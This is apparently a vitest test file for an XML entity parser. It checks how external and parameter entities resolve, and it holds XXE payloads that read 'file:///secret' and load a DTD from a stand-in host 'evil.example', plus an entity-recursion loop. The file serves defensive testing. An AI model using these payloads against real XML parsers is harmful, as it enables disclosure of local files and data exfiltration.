import { expect, test } from 'vitest'
import { parse, textOf } from './xml-entities.ts'

const files: Record<string, string> = {
  'file:///secret': 'the secret',
  'http://evil.example/x.dtd': '<!ENTITY leak SYSTEM "file:///secret">',
}
const read = (text: string, substitutes = true) =>
  textOf(parse(text, { substitutes, load: (systemId) => files[systemId] }).root)

test('external entities have a system or a public identifier', () => {
  for (const declared of ['SYSTEM "file:///secret"', `PUBLIC "-//EXAMPLE//" 'file:///secret'`]) {
    expect(read(`<!DOCTYPE a [<!ENTITY x ${declared}>]><a>&x;</a>`)).toBe('the secret')
  }
  expect(
    parse('<!DOCTYPE a PUBLIC "-//EXAMPLE//" "a.dtd"><a/>', { substitutes: true, load: () => '' }).doctype,
  ).toEqual({
    name: 'a',
    systemId: 'a.dtd',
  })
})

test('parameter entities declare further ones, from here and from elsewhere', () => {
  const outside = '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]><a>&leak;</a>'
  const inside = `<!DOCTYPE a [<!ENTITY % d "<!ENTITY leak SYSTEM 'file:///secret'>"> %d;]><a>&leak;</a>`
  const signs = `<!DOCTYPE a [<!ENTITY % d "&#x3c;!ENTITY leak SYSTEM 'file:///secret'>"> %d;]><a>&leak;</a>`
  for (const text of [outside, inside, signs]) expect(read(text)).toBe('the secret')
})

test('without substitution nothing is read, and circles end in an error', () => {
  const outside = '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]><a>&leak;</a>'
  expect(() => read(outside, false)).toThrow('not defined')
  const circle = '<!DOCTYPE a [<!ENTITY % d "%e;"> <!ENTITY % e "%d;"> %d;]><a/>'
  expect(() => read(circle)).toThrow('loop')
})
